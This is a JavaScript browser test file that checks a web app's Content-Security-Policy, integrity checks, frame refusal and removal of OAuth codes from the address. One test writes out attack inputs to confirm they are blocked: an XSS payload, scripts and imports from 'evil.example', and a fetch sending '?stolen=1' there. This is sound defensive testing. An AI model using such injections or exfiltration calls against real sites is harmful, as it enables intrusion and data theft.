// @ts-check
// Rules P1–P11 of the page, seen from outside: what the browser is told, what an injected script could do, what a frame, a
// wrong file or another person's code gets.
import assert from 'node:assert/strict';
import {after, afterEach, before, beforeEach, describe, it} from 'node:test';
import {cachedText, complaintsOf, eventually, press, reads, start} from './support.mjs';

/** @typedef {import('playwright-core').Page} Page */

/** @type {Awaited<ReturnType<typeof start>>} */
let world;
before(async () => {
  world = await start();
});
after(() => world.close());
beforeEach(() => world.control({reset: true}));
afterEach(() => world.closePages());

/** @param {string} policy */
const directives = (policy) =>
  Object.fromEntries(
    policy
      .split(';')
      .map((one) => one.trim().split(/\s+/))
      .filter((one) => one[0])
      .map(([name, ...values]) => [name, values.join(' ')]),
  );

const policy = {
  'default-src': "'none'",
  'script-src': "'self' 'wasm-unsafe-eval'",
  'style-src': "'self'",
  'img-src': "'self' data:",
  'font-src': "'self'",
  'manifest-src': "'self'",
  'worker-src': "'self'",
  'connect-src': "'self'",
  'base-uri': "'none'",
  'form-action': "'none'",
  'object-src': "'none'",
  'require-trusted-types-for': "'script'",
  'trusted-types': 'app',
};

describe('what the browser is told (P1, P2, P7, P8)', () => {
  it('the policy is the same in the page and in the header, and the header adds what a page cannot say', async () => {
    const answer = await fetch(world.base);
    const html = await answer.text();
    const meta = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)?.[1] ?? '';
    assert.deepEqual(directives(meta), policy);
    assert.deepEqual(directives(answer.headers.get('content-security-policy') ?? ''), {
      ...policy,
      'frame-ancestors': "'none'",
    });
    for (const [name, value] of [
      ['x-content-type-options', 'nosniff'],
      ['cross-origin-opener-policy', 'same-origin'],
      ['referrer-policy', 'no-referrer'],
    ]) {
      assert.equal(answer.headers.get(name), value);
    }
    assert.match(html, /<meta name="referrer" content="no-referrer">/);
  });

  it('nothing in the page comes from elsewhere, is written inline, or runs unchecked (P6, P7)', async () => {
    const html = await (await fetch(world.base)).text();
    assert.doesNotMatch(html, /(?:src|href)="(?:https?:)?\/\//);
    assert.doesNotMatch(html, /<script(?![^>]*\bsrc=)|<style|\son\w+=|\sstyle=/);
    for (const [tag] of html.matchAll(/<(?:script|link rel="(?:modulepreload|stylesheet)")[^>]*>/g)) {
      assert.equal(/integrity="sha256-/.test(tag), !tag.includes('./boot.js'), tag); // that one speaks when the others do not fit
    }
  });

  it('a worker gets the policy too (P4)', async () => {
    const answer = await fetch(`${world.base}worker.js?sim=server`);
    assert.equal(directives(answer.headers.get('content-security-policy') ?? '')['default-src'], "'none'");
  });
});

describe('what an injected script could not do (P1, P3)', () => {
  it('no markup, no code from text, no foreign script, no foreign address', async () => {
    const page = await world.open();
    await page.goto(world.base);
    await page.getByRole('button', {name: 'Try the demo home'}).waitFor({state: 'attached'});
    const tried = await page.evaluate(async () => {
      /** @param {() => unknown} work */
      const outcome = async (work) => {
        try {
          await work();
          return 'done';
        } catch (error) {
          return /** @type {Error} */ (error).name;
        }
      };
      const any = /** @type {any} */ (globalThis);
      const blocked = new Promise((resolve) =>
        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
          once: true,
        }),
      );
      return {
        innerHTML: await outcome(() => (document.body.innerHTML = '<img src=x onerror=alert(1)>')),
        insert: await outcome(() => document.body.insertAdjacentHTML('beforeend', '<b>x</b>')),
        write: await outcome(() => document.write('<b>x</b>')),
        scriptText: await outcome(() => (document.createElement('script').text = 'globalThis.injected = 1')),
        scriptUrl: await outcome(() => (document.createElement('script').src = 'https://evil.example/x.js')),
        worker: await outcome(() => new Worker('./worker.js')),
        serviceWorker: await outcome(() => navigator.serviceWorker.register('./other.mjs')),
        ...(await new Promise((resolve) =>
          setTimeout(async () =>
            resolve({
              // later: the tool's own call is allowed to
              evil: await outcome(() => (0, eval)('1')),
              fromText: await outcome(() => new Function('return 1')()),
            }),
          ),
        )),
        second: await outcome(() => any.trustedTypes.createPolicy('other', {})),
        again: await outcome(() =>
          any.trustedTypes.createPolicy('app', {createScriptURL: (/** @type {string} */ url) => url}),
        ),
        imported: await outcome(() => import(/** @type {any} */ ('https://evil.example/x.mjs'))),
        fetched: await outcome(() => fetch('https://evil.example/?stolen=1')),
        violation: await Promise.race([blocked, new Promise((resolve) => setTimeout(resolve, 2000, 'none'))]),
        form: await outcome(() => {
          const form = document.createElement('form');
          form.action = 'https://evil.example/';
          document.body.append(form);
          form.submit();
          form.remove();
        }),
        injected: any.injected ?? 'nothing',
      };
    });
    assert.deepEqual(tried, {
      innerHTML: 'TypeError',
      insert: 'TypeError',
      write: 'TypeError',
      scriptText: 'TypeError',
      scriptUrl: 'TypeError',
      worker: 'TypeError',
      serviceWorker: 'TypeError',
      evil: 'EvalError',
      fromText: 'EvalError',
      second: 'TypeError',
      again: 'TypeError',
      imported: 'TypeError',
      fetched: 'TypeError',
      violation: tried.violation,
      form: 'done',
      injected: 'nothing',
    });
    assert.match(String(tried.violation), /script|connect|require-trusted/);
    assert.equal(page.url().startsWith(world.base), true, 'form-action kept the form here');
  });
});

describe('what arrives wrong', () => {
  it('a program with one other byte does not run (P6)', async () => {
    const page = await world.open();
    await page.route('**/foyer.wasm', async (route) => {
      const body = await (await route.fetch()).body();
      body[body.length - 1] ^= 1;
      await route.fulfill({body, contentType: 'application/wasm'});
    });
    await page.goto(world.base);
    await reads(page, /could not be loaded/);
    assert.equal(await page.getByRole('button', {name: 'Try the demo home'}).count(), 0);
  });

  it('nor a module (P6)', async () => {
    const page = await world.open();
    await page.route('**/main.js', async (route) => {
      const answer = await route.fetch();
      await route.fulfill({body: `${await answer.text()}\nglobalThis.injected = 1;`, contentType: 'text/javascript'});
    });
    await page.goto(world.base);
    await eventually(() => complaintsOf(page).some((text) => /integrity/.test(text)), 'the browser refuses it');
    assert.equal(await page.evaluate('globalThis.injected'), undefined);
    assert.equal(await page.getByRole('button', {name: 'Try the demo home'}).count(), 0);
  });
});

describe('in a frame, on a host that sets no headers (P2)', () => {
  for (const kind of ['foreign', 'own']) {
    it(`of a ${kind} page it says what it is, offers nothing and touches no storage`, async () => {
      const page = await world.open();
      await page.addInitScript(() => {
        const touched = /** @type {string[]} */ (/** @type {any} */ (globalThis).touched = []);
        const open = IDBFactory.prototype.open;
        IDBFactory.prototype.open = /** @type {any} */ (
          function (/** @type {any} */ ...args) {
            touched.push('indexedDB');
            return open.apply(/** @type {any} */ (globalThis.indexedDB), args);
          }
        );
        for (const name of /** @type {const} */ (['getItem', 'setItem'])) {
          const old = Storage.prototype[name];
          Storage.prototype[name] = /** @type {any} */ (
            function (/** @type {any[]} */ ...args) {
              touched.push('Storage');
              return /** @type {any} */ (old).apply(this, args);
            }
          );
        }
      });
      await page.route(world.base, async (route) => {
        const answer = await route.fetch();
        await route.fulfill({body: await answer.text(), contentType: 'text/html'});
      });
      await page.route('**/frame.html', (route) =>
        route.fulfill({
          contentType: 'text/html',
          body: `<!doctype html><title>Frame</title><iframe src="${world.base}"></iframe>`,
        }),
      );
      const own = world.base;
      await page.goto(`${kind === 'own' ? own : own.replace('127.0.0.1', 'localhost')}frame.html`);
      const inside = await eventually(
        () => page.frames().find((frame) => frame.url() === world.base),
        'the frame is there',
      );
      await inside.getByRole('heading', {name: /does not run inside another page/}).waitFor();
      assert.deepEqual(await inside.getByRole('button').allTextContents(), ['Try again']);
      assert.deepEqual(await inside.evaluate('globalThis.touched'), []);
    });
  }
});

describe('the answer of the provider (A6, B1)', () => {
  it('is out of the address before anything is waited for, and goes nowhere', async () => {
    const page = await world.open();
    /** @type {string[]} */
    const told = [];
    page.on('request', (request) =>
      told.push(`${request.isNavigationRequest() ? '' : request.url()} ${request.headers().referer ?? ''}`),
    );
    await page.addInitScript(() => {
      const seen = /** @type {string[]} */ (/** @type {any} */ (globalThis).seen = []);
      /** @param {any} object @param {string} name */
      const note = (object, name) => {
        const old = object[name];
        object[name] = function (/** @type {any[]} */ ...args) {
          seen.push(location.search);
          return old.apply(this, args);
        };
      };
      note(globalThis, 'fetch');
      note(IDBFactory.prototype, 'open');
      note(globalThis, 'setTimeout');
      note(globalThis, 'requestAnimationFrame');
      note(Promise.prototype, 'then');
    });
    await page.goto(`${world.base}?code=CANARYCODE&state=CANARYSTATE`);
    await page.getByRole('button', {name: 'Try the demo home'}).waitFor({state: 'attached'});
    const seen = /** @type {string[]} */ (await page.evaluate('globalThis.seen'));
    assert.ok(seen.length > 3);
    assert.deepEqual(
      seen.filter((search) => search !== ''),
      [],
    );
    assert.equal(new URL(page.url()).search, '');
    assert.equal(await page.evaluate('JSON.stringify(history.state)'), 'null');
    assert.ok(!told.join('\n').includes('CANARY'), 'no request of the page tells it on');
    assert.deepEqual(
      (await world.calls()).filter((call) => call.path.endsWith('/token')),
      [],
      'B3: nobody asked for it',
    );
    assert.ok(!(await cachedText(page)).includes('CANARY'), 'P10');
    assert.ok(!(await page.content()).includes('CANARY'));
  });

  it('counts only at the registered address, to the letter', async () => {
    const page = await world.open();
    await page.goto(world.base);
    await press(page.getByRole('button', {name: 'Try the demo home'}));
    await page.getByRole('button', {name: /^Alice/}).click();
    await page.route('**/consent', async (route) => {
      const response = await route.fetch({maxRedirects: 0});
      const to = new URL(response.headers().location, world.base);
      to.pathname += 'index.html';
      await route.fulfill({response, headers: {...response.headers(), location: to.href}});
    });
    await page.getByRole('button', {name: 'Accept'}).click();
    await page.getByRole('button', {name: 'Try the demo home'}).waitFor({state: 'attached'});
    assert.match(new URL(page.url()).pathname, /index\.html$/);
    assert.deepEqual(
      (await world.calls()).filter((call) => call.path.endsWith('/token')),
      [],
    );
    assert.equal(new URL(page.url()).search, '');
  });
});
